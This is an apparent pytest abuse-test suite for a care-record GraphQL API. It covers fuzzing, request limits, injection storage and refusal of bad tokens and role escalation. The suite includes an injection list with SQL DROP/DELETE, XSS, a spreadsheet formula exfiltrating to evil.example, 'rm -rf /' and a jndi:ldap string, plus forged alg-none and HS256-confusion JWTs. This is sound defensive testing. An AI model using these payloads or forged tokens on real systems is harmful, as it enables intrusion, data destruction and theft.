"""Abuse of the running API over HTTP (issue 7): generated GraphQL requests from the checked-in SDL, valid and
invalid, as every kind of caller; oversized, deep, alias-bombed and cyclic requests refused before any work;
injection strings stored verbatim and harmless; bad tokens refused, with a clear error, and recorded.

CARERECORD_ABUSE_REQUESTS sets how many generated requests are sent (default 10,000; use a few hundred while
developing).
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import httpx
import jwt
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from hypothesis_graphql import Mode, mutations, nodes, queries
from websockets.sync.client import ClientConnection, connect
from websockets.typing import Subprotocol

import graphql
from carerecord.tokens import DEV_KEY_ID, development_keys
from carerecord_graphql.schema import SDL_FILE
from carerecord_projections.database import transaction
from carerecord_projections.refused_requests import RefusalLog
from tests.conftest import dsn, open_stack
from tests.e2e.abuse_support import (
    ADMINISTRATOR,
    ASSURANCE,
    CARE_HOME,
    GP,
    PARAMEDIC,
    RESULT,
    UNEXPECTED,
    Target,
    assert_clear_answer,
    populate,
    running_api,
    schema_of_its_own,
)
from tests.support.api_server import ApiServer

REQUESTS = int(os.environ.get("CARERECORD_ABUSE_REQUESTS", "10000"))
WEBSOCKET_REQUESTS = int(os.environ.get("CARERECORD_ABUSE_WEBSOCKET_REQUESTS", str(REQUESTS // 4)))


@pytest.fixture(scope="module")
def api(test_database_url: str) -> Iterator[ApiServer]:
    with (
        schema_of_its_own(test_database_url) as schema,
        tempfile.TemporaryDirectory(prefix="carerecord-abuse-") as folder,
        running_api(test_database_url, schema, Path(folder)) as server,
    ):
        yield server
        logged = server.log.read_text()
    # the server logs an unexpected exception (its type and path only): there must be none
    problems = [line for line in logged.splitlines() if " ERROR " in line or "Traceback" in line]
    assert not problems, "\n".join(problems[:20])


@pytest.fixture(scope="module")
def target(api: ApiServer) -> Target:
    return populate(api, people=12, start=407_000_000)


@pytest.fixture(scope="module")
def callers(api: ApiServer, target: Target) -> dict[str, str | None]:
    """Every kind of caller: staff of a caring organisation and of others, the person, assurance, no one."""
    return {
        "gp": api.token(**GP),
        "care-home-staff": api.token(**CARE_HOME),
        "paramedic": api.token(**PARAMEDIC),
        "assurance": api.token(**ASSURANCE),
        "administrator": api.token(**ADMINISTRATOR),
        "person": api.token(sub="person-abuse", role="person", org="K81003", record=target.record_ids[0]),
        "no token": None,
        "garbage token": "not.a.token",
    }


def _scalars(target: Target) -> dict[str, st.SearchStrategy[Any]]:
    """Custom scalars: mostly well-formed, often ids of records that exist, sometimes nonsense."""
    known = st.sampled_from(target.record_ids + target.plan_ids)
    nonsense = st.text(max_size=40)
    uuids = st.one_of(known, known, st.uuids().map(str), nonsense)
    dates = st.one_of(st.dates().map(date.isoformat), nonsense)
    instants = st.one_of(
        st.datetimes(timezones=st.sampled_from([UTC])).map(datetime.isoformat),
        st.datetimes().map(datetime.isoformat),  # naive: refused, never a crash
        nonsense,
    )
    return {
        "UUID": uuids.map(nodes.String),
        "Date": dates.map(nodes.String),
        "DateTime": instants.map(nodes.String),
    }


class Sender:
    """Keep-alive HTTP connections for all generated requests, one per caller at once; counts what it sent."""

    def __init__(self, api: ApiServer, callers: dict[str, str | None]) -> None:
        self.callers = callers
        limits = httpx.Limits(max_connections=len(callers), max_keepalive_connections=len(callers))
        self.client = httpx.Client(base_url=api.url, timeout=60, limits=limits)
        self.pool = ThreadPoolExecutor(4)  # four at once: the shared PostgreSQL has few connections to spare
        self.sent = 0
        self.statuses: Counter[int] = Counter()

    def send_as_everyone(self, query: str) -> None:
        """The same request from every caller at once; each answer must be a clear one."""
        answers = self.pool.map(lambda token: self._send(query, token), self.callers.values())
        for response in answers:
            self.sent += 1
            self.statuses[response.status_code] += 1
            assert_clear_answer(response, query)

    def _send(self, query: str, token: str | None) -> httpx.Response:
        headers = {"authorization": f"Bearer {token}"} if token else {}
        return self.client.post("/graphql", json={"query": query}, headers=headers)

    def close(self) -> None:
        self.pool.shutdown()
        self.client.close()


class WebSocketSender:
    """One graphql-transport-ws connection per caller, every generated operation sent on each as a `subscribe`
    message (queries and mutations travel that way too); counts what it sent and how it was answered."""

    def __init__(self, api: ApiServer, callers: dict[str, str | None]) -> None:
        self.url = api.url.replace("http", "ws") + "/graphql"
        self.sockets = {name: self._connect(token) for name, token in callers.items()}
        self.sent = 0
        self.statuses: Counter[str] = Counter()
        self._ids = 0

    def _connect(self, token: str | None) -> ClientConnection:
        headers = {"authorization": f"Bearer {token}"} if token else {}
        # no keepalive pings: websockets draws their payload from the global `random` in a thread of its own,
        # which hypothesis (rightly) takes for a strategy that uses `random` while it generates
        socket = connect(
            self.url,
            subprotocols=[Subprotocol("graphql-transport-ws")],
            additional_headers=headers,
            ping_interval=None,
        )
        socket.send(json.dumps({"type": "connection_init"}))
        assert json.loads(socket.recv(timeout=30))["type"] == "connection_ack"
        return socket

    def send_as_everyone(self, query: str) -> None:
        for socket in self.sockets.values():
            self._ids += 1
            ident = str(self._ids)
            socket.send(json.dumps({"id": ident, "type": "subscribe", "payload": {"query": query}}))
            while True:
                message = json.loads(socket.recv(timeout=60))
                if message.get("id") != ident:
                    continue
                self._check(message, query)
                if message["type"] in ("complete", "error"):
                    break
            self.sent += 1

    def _check(self, message: dict[str, Any], query: str) -> None:
        kind = message["type"]
        self.statuses[kind] += 1
        if kind == "complete":
            return
        errors = message["payload"] if kind == "error" else message["payload"].get("errors") or []
        for error in errors:
            text = error.get("message")
            assert isinstance(text, str) and text.strip(), f"an error without a message: {error}"
            assert text != UNEXPECTED, f"masked error at {error.get('path')} for {query!r}"

    def close(self) -> None:
        for socket in self.sockets.values():
            socket.close()


def _operations(target: Target, mode: Mode) -> st.SearchStrategy[str]:
    """One root field per operation (as clients send them), queries and mutations equally often."""
    schema = graphql.build_schema(SDL_FILE.read_text())
    scalars = _scalars(target)

    def each_field(make: Any, root: graphql.GraphQLObjectType | None) -> st.SearchStrategy[str]:
        assert root is not None
        # a field without arguments (the glossary) has nothing to get wrong in negative mode
        names = [name for name, field in root.fields.items() if field.args or mode is Mode.POSITIVE]
        return st.one_of([make(schema, fields=[name], custom_scalars=scalars, mode=mode) for name in names])

    return st.one_of(each_field(queries, schema.query_type), each_field(mutations, schema.mutation_type))


def _generated(
    api: ApiServer,
    target: Target,
    callers: dict[str, str | None],
    mode: Mode,
    count: int,
    capsys: pytest.CaptureFixture[str],
    transport: str = "http",
) -> None:
    sender: Sender | WebSocketSender = (
        Sender(api, callers) if transport == "http" else WebSocketSender(api, callers)
    )
    examples = -(-count // len(callers))

    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        phases=[Phase.explicit, Phase.generate, Phase.shrink],
        suppress_health_check=list(HealthCheck),
    )
    @given(operation=_operations(target, mode))
    def each(operation: str) -> None:
        sender.send_as_everyone(operation)

    started = time.monotonic()
    try:
        each()
    finally:
        sender.close()
    with capsys.disabled():
        sys.stdout.write(
            f"\n{mode.name.lower()} over {transport}: {sender.sent} generated requests in "
            f"{time.monotonic() - started:.1f}s, answers {dict(sorted(sender.statuses.items()))}\n"
        )
    assert sender.sent >= count
    if isinstance(sender, Sender):
        assert set(sender.statuses) <= {200, 400, 413}, sender.statuses
    else:  # every operation was answered and completed on its connection (none of them closed it)
        assert sender.statuses["complete"] + sender.statuses["error"] == sender.sent, sender.statuses


def test_generated_valid_queries_and_mutations_get_clear_answers_from_every_caller(
    api: ApiServer, target: Target, callers: dict[str, str | None], capsys: pytest.CaptureFixture[str]
) -> None:
    _generated(api, target, callers, Mode.POSITIVE, REQUESTS - REQUESTS // 4, capsys)


def test_generated_invalid_queries_and_mutations_are_refused_with_clear_errors(
    api: ApiServer, target: Target, callers: dict[str, str | None], capsys: pytest.CaptureFixture[str]
) -> None:
    _generated(api, target, callers, Mode.NEGATIVE, REQUESTS // 4, capsys)


def test_generated_requests_over_the_websocket_get_the_same_clear_answers(
    api: ApiServer, target: Target, callers: dict[str, str | None], capsys: pytest.CaptureFixture[str]
) -> None:
    """The same generated operations over graphql-transport-ws: the websocket is a door like any other."""
    _generated(
        api, target, callers, Mode.POSITIVE, WEBSOCKET_REQUESTS * 3 // 4, capsys, transport="websocket"
    )
    _generated(api, target, callers, Mode.NEGATIVE, WEBSOCKET_REQUESTS // 4, capsys, transport="websocket")


# --- limits: refused before any work is done -------------------------------------------------------------


def _work_done(api: ApiServer, test_database_url: str) -> tuple[int, int]:
    """(events stored, reads recorded): every read of a record is recorded, so an unchanged count shows
    that no resolver ran."""
    with transaction(dsn(test_database_url, api.env["CARERECORD_SCHEMA"])) as cursor:
        cursor.execute("SELECT count(*) FROM carerecord_events")
        events = int(cursor.fetchone()[0])
        cursor.execute("SELECT count(*) FROM access_log")
        return events, int(cursor.fetchone()[0])


def test_oversized_deep_alias_bombed_huge_and_cyclic_requests_are_refused_before_any_work(
    api: ApiServer, target: Target, test_database_url: str
) -> None:
    gp = api.token(**GP)
    nhs = target.nhs_numbers[0]
    read = f'person(nhsNumber: "{nhs}") {{ version }}'
    assert "errors" not in api.graphql(gp, "{ " + read + " }")  # the same read, well-formed, is served
    before = _work_done(api, test_database_url)
    headers = {"authorization": f"Bearer {gp}"}
    with httpx.Client(base_url=api.url, headers=headers, timeout=30) as client:
        padding = "x" * 300_000
        oversized = client.post("/graphql", json={"query": "{ " + read + " }", "variables": {"p": padding}})
        assert (
            oversized.status_code == 413 and oversized.json()["errors"][0]["message"] == "request too large"
        )

        def chunks() -> Iterator[bytes]:  # no Content-Length: the limit is counted as the body arrives
            yield b'{"query": "{ glossary { term } }", "variables": {"p": "'
            for _ in range(400):
                yield b"y" * 1024
            yield b'"}}'

        streamed = client.post("/graphql", content=chunks(), headers={"content-type": "application/json"})
        assert streamed.status_code == 413, streamed.text
        refusals = {
            "depth": ("{ " + f'person(nhsNumber: "{nhs}") ' + "{ plans " * 12 + "}" * 13, "depth"),
            "aliases": ("{ " + " ".join(f"a{i}: {read}" for i in range(40)) + " }", "aliases"),
            "tokens": ("{ " + f'person(nhsNumber: "{nhs}") {{ ' + "version " * 5000 + "} }", "tokens"),
            "fragment cycle": (
                "{ " + f'person(nhsNumber: "{nhs}")' + " { ...A } } fragment A on Person { version ...B } "
                "fragment B on Person { ...A }",
                "within itself",
            ),
            "batch": (None, "Batching"),
        }
        for name, (query, expected) in refusals.items():
            body: Any = {"query": query} if query else [{"query": "{ " + read + " }"}] * 50
            started = time.monotonic()
            response = client.post("/graphql", json=body)
            answer = assert_clear_answer(response, name)
            text = response.text if answer is None else " ".join(e["message"] for e in answer["errors"])
            assert expected in text, (name, text)
            assert answer is None or answer.get("data") is None, name
            assert time.monotonic() - started < 5, f"{name} took a while to refuse"
    assert _work_done(api, test_database_url) == before


# --- injection: stored verbatim, harmless --------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE current_plan;--",
    "Robert'); DELETE FROM carerecord_events; --",
    '<script>alert("x")</script><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "$(rm -rf /) `id` ${jndi:ldap://x/a}",
    "{{7*7}} %s %n \\N \\x00",
    "ünïcödé 中文 العربية 🚑 \u202eevil\u202c \u200b zero-width",
]


def test_injection_strings_in_free_text_are_stored_verbatim_and_harmless(
    api: ApiServer, target: Target, test_database_url: str
) -> None:
    gp = api.token(**GP)
    record_id = target.record_ids[-1]
    schema = api.env["CARERECORD_SCHEMA"]
    for text in INJECTIONS:
        now = api.graphql(gp, PLAN_TEXT, id=record_id)["data"]["record"]
        made = api.graphql(
            gp,
            RECOMMEND_AGAIN,
            id=record_id,
            v=now["version"],
            input=recommendation(
                reasoning=f"{REASONING} {text}",
                whatMatters=text,
                supersedesPlanId=now["currentPlans"][0]["planId"],
            ),
        )
        assert made["data"]["makeRecommendation"]["__typename"] == "RecordChanged", made
        concern = api.graphql(gp, CONCERN, id=record_id, input={"raisedBy": "STAFF", "summary": text})
        assert concern["data"]["raiseConcern"]["__typename"] == "RecordChanged", concern
        shown = api.graphql(gp, PLAN_TEXT, id=record_id)["data"]["record"]["currentPlans"]
        assert [(p["reasoning"], p["whatMatters"]) for p in shown] == [(f"{REASONING} {text}", text)]
    stack = open_stack(test_database_url, schema, encrypted=False)
    try:
        summaries = [e.summary for e in stack.care_records.history(UUID(record_id)) if hasattr(e, "summary")]
    finally:
        stack.close()
    assert summaries[-len(INJECTIONS) :] == INJECTIONS
    with transaction(dsn(test_database_url, schema)) as cursor:
        for table in ("current_plan", "carerecord_events", "access_log", "person_timeline"):
            cursor.execute("SELECT to_regclass(%s)", (f"{schema}.{table}",))
            assert cursor.fetchone()[0] is not None, f"{table} is gone"
        cursor.execute("SELECT count(*) FROM current_plan")
        assert cursor.fetchone()[0] >= len(target.record_ids)


def test_unstorable_text_is_refused_naming_the_field_and_nothing_is_stopped(
    api: ApiServer, target: Target, test_database_url: str
) -> None:
    """A NUL character (or a lone surrogate, which JSON can carry) once stopped the projections for good."""
    gp = api.token(**GP)
    record_id = target.record_ids[-2]
    before = _work_done(api, test_database_url)
    for text in ["before\x00after", "broken \ud800 surrogate"]:
        body = json.dumps(
            {
                "query": CONCERN,
                "variables": {"id": record_id, "input": {"raisedBy": "STAFF", "summary": text}},
            }
        )
        response = httpx.post(
            f"{api.url}/graphql",
            content=body,
            headers={"authorization": f"Bearer {gp}", "content-type": "application/json"},
        )
        refused = assert_clear_answer(response, body)
        assert refused is not None
        assert refused["data"]["raiseConcern"]["__typename"] == "Refused"
        assert refused["data"]["raiseConcern"]["field"] == "summary"
        read = httpx.post(
            f"{api.url}/graphql",
            content=json.dumps({"query": PLAN_TEXT, "variables": {"id": record_id}}).replace(
                '"variables"', '"extensions": {}, "variables"'
            ),
            headers={"authorization": f"Bearer {gp}", "content-type": "application/json"},
        )
        assert assert_clear_answer(read, "read") is not None
        purpose = json.dumps({"query": PURPOSE, "variables": {"id": record_id, "p": text}})
        response = httpx.post(
            f"{api.url}/graphql",
            content=purpose,
            headers={"authorization": f"Bearer {gp}", "content-type": "application/json"},
        )
        answer = assert_clear_answer(response, purpose)
        assert answer is not None and "NUL character" in answer["errors"][0]["message"]
    assert _work_done(api, test_database_url)[0] == before[0]  # nothing stored
    # and the projections still run: a read is served and recorded
    assert api.graphql(gp, PLAN_TEXT, id=record_id)["data"]["record"]["currentPlans"]
    assert _work_done(api, test_database_url)[1] > before[1]


# --- tokens: refused, with a clear error, and recorded ---------------------------------------------------


def _jwt(api: ApiServer, claims: dict[str, Any], *, key: Any = None, **header: Any) -> str:
    now = int(time.time())
    payload = {"iss": "carerecord-development", "aud": "carerecord", "iat": now, "exp": now + 300, **claims}
    signing = key or development_keys(api.data_dir).private_key_pem
    return jwt.encode(
        payload, signing, algorithm=header.pop("alg", "ES256"), headers={"kid": DEV_KEY_ID, **header}
    )


def _unsigned(claims: dict[str, Any]) -> str:
    now = int(time.time())
    payload = {"iss": "carerecord-development", "aud": "carerecord", "iat": now, "exp": now + 300, **claims}
    return f"{_part({'alg': 'none', 'typ': 'JWT', 'kid': DEV_KEY_ID})}.{_part(payload)}."


def _hmac_with_public_key(public: bytes, claims: dict[str, Any]) -> str:
    """The algorithm-confusion attack: HS256 with the server's public key as the shared secret."""
    now = int(time.time())
    payload = {"iss": "carerecord-development", "aud": "carerecord", "iat": now, "exp": now + 300, **claims}
    signing_input = f"{_part({'alg': 'HS256', 'kid': DEV_KEY_ID})}.{_part(payload)}"
    signature = hmac.new(public, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{base64.urlsafe_b64encode(signature).decode().rstrip('=')}"


def _part(value: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


def test_bad_tokens_are_refused_with_a_clear_error_and_recorded(
    api: ApiServer, target: Target, tmp_path: Path
) -> None:
    other_key = development_keys(tmp_path / "someone-else").private_key_pem
    public_jwk = json.dumps(development_keys(api.data_dir).jwks["keys"][0]).encode()
    now = int(time.time())
    cases: dict[str, tuple[str, str]] = {}

    def case(name: str, reason: str, make: Any) -> None:
        jti = f"abuse-{name}-{uuid4().hex[:8]}"
        cases[jti] = (make(jti), reason)

    case("expired", "expired", lambda j: _jwt(api, {**GP, "jti": j, "iat": now - 900, "exp": now - 60}))
    case("other-key", "bad-signature", lambda j: _jwt(api, {**GP, "jti": j}, key=other_key))
    case("alg-none", "algorithm-not-allowed", lambda j: _unsigned({**GP, "jti": j}))
    case("hs256", "algorithm-not-allowed", lambda j: _hmac_with_public_key(public_jwk, {**GP, "jti": j}))
    case("audience", "wrong-audience", lambda j: _jwt(api, {**GP, "jti": j, "aud": "another-service"}))
    case("issuer", "wrong-issuer", lambda j: _jwt(api, {**GP, "jti": j, "iss": "someone-else"}))
    case("unknown-kid", "untrusted-key", lambda j: _jwt(api, {**GP, "jti": j}, kid="rotated-away"))
    case("system-role", "role-cannot-sign-in", lambda j: _jwt(api, {**GP, "jti": j, "role": "system"}))
    case("no-such-role", "bad-claims", lambda j: _jwt(api, {**GP, "jti": j, "role": "superuser"}))
    # a GP's role claimed without the GMC registration that the role requires
    case("unregistered-gp", "bad-claims", lambda j: _jwt(api, {**CARE_HOME, "jti": j, "role": "gp"}))
    case(
        "person-no-record",
        "bad-claims",
        lambda j: _jwt(api, {"sub": "p", "org": "K81003", "role": "person", "jti": j}),
    )
    query = f'{{ person(nhsNumber: "{target.nhs_numbers[0]}") {{ version }} }}'
    with httpx.Client(base_url=api.url, timeout=30) as client:
        for jti, (token, _) in cases.items():
            response = client.post(
                "/graphql", json={"query": query}, headers={"authorization": f"Bearer {token}"}
            )
            answer = assert_clear_answer(response, jti)
            assert answer is not None and answer["data"] is None, jti
            assert "token" in answer["errors"][0]["message"] or "role" in answer["errors"][0]["message"], (
                answer
            )
        mangled = client.post(
            "/graphql", json={"query": query}, headers={"authorization": "Basic dXNlcjpwYXNz"}
        )
        assert "bearer token" in mangled.json()["errors"][0]["message"]
    recorded = {row["token_id"]: row for row in _refusals(api)}
    for jti, (_, reason) in cases.items():
        row = recorded.get(jti)
        assert row is not None, f"{jti} was not recorded"
        assert (row["kind"], row["reason"], row["client_address"]) == ("authentication", reason, "127.0.0.1")
        assert row["key_id"] in (DEV_KEY_ID, "rotated-away")
    assert any(row["reason"] == "not-a-bearer-token" for row in _refusals(api))


def test_a_role_escalation_is_refused_with_a_clear_answer_and_recorded(
    api: ApiServer, target: Target
) -> None:
    record_id = target.record_ids[1]
    carer = api.token(**CARE_HOME)
    manager = api.token(sub="ch-manager", role="administrator", org="VLAXL")
    started = api.graphql(
        manager,
        START_AT,
        id=record_id,
        input={"organisation": "VLAXL", "setting": "CARE_HOME", "basis": "RESIDENT_OF_CARE_HOME"},
    )
    assert started["data"]["startCareRelationship"]["__typename"] == "RecordChanged", started
    escalation = api.graphql(carer, RECOMMEND_AGAIN, id=record_id, input=recommendation())
    assert escalation["data"]["makeRecommendation"] == {
        "__typename": "NotAllowedResult",
        "message": escalation["data"]["makeRecommendation"]["message"],
    }
    assert "may not" in escalation["data"]["makeRecommendation"]["message"]
    paramedic = api.token(**PARAMEDIC)  # no care relationship, and no break glass
    elsewhere = api.graphql(
        paramedic, CONCERN, id=record_id, input={"raisedBy": "STAFF", "summary": "worried"}
    )
    assert elsewhere["data"]["raiseConcern"]["__typename"] == "NotAllowedResult"
    carer_glass = api.graphql(carer, BREAK_GLASS, id=record_id, reason="the person collapsed in the lounge")
    assert carer_glass["data"]["breakGlass"]["__typename"] == "NotAllowedResult"
    rows = [(r["kind"], r["reason"], r["user_id"], r["role"], r["operation"]) for r in _refusals(api)]
    assert ("permission", "role-not-permitted", "ch-abuse", "care-home-staff", "makeRecommendation") in rows
    assert ("permission", "no-care-relationship", "p-abuse", "paramedic", "raiseConcern") in rows
    assert ("permission", "role-not-permitted", "ch-abuse", "care-home-staff", "breakGlass") in rows


def _refusals(api: ApiServer) -> list[dict[str, Any]]:
    test_database_url = api.env["DATABASE_URL"]
    return RefusalLog(dsn(test_database_url, api.env["CARERECORD_SCHEMA"])).recent(limit=100_000)


REASONING = "Metastatic cancer with liver failure; CPR would not restart the heart."
PLAN_TEXT = (
    "query($id: UUID!) { record(recordId: $id) { version currentPlans { planId reasoning whatMatters } } }"
)
PURPOSE = "query($id: UUID!, $p: String!) { record(recordId: $id, purpose: $p) { version } }"
RECOMMEND_AGAIN = f"mutation($id: UUID!, $v: Int, $input: MakeRecommendationInput!) {{ makeRecommendation(recordId: $id, expectedVersion: $v, input: $input) {{ {RESULT} }} }}"
CONCERN = f"mutation($id: UUID!, $input: RaiseConcernInput!) {{ raiseConcern(recordId: $id, input: $input) {{ {RESULT} }} }}"
START_AT = f"mutation($id: UUID!, $input: StartCareRelationshipInput!) {{ startCareRelationship(recordId: $id, input: $input) {{ {RESULT} }} }}"
BREAK_GLASS = "mutation($id: UUID!, $reason: String!) { breakGlass(recordId: $id, reason: $reason) { __typename ... on NotAllowedResult { message } } }"


def recommendation(**extra: Any) -> dict[str, Any]:
    return {
        "formType": "RESPECT",
        "cpr": "DO_NOT_ATTEMPT_CPR",
        "reasonCategory": "WOULD_NOT_SUCCEED",
        "reasoning": REASONING,
        "involvement": {"route": "A_PERSON_WITH_CAPACITY", "personInvolved": True},
        "responsibleClinician": {"name": "Dr Grey", "role": "GP", "registration": "2345678"},
        "setting": "GP_PRACTICE",
        "reviewDue": "2030-03-01",
        "supersedesPlanId": None,
        **extra,
    }
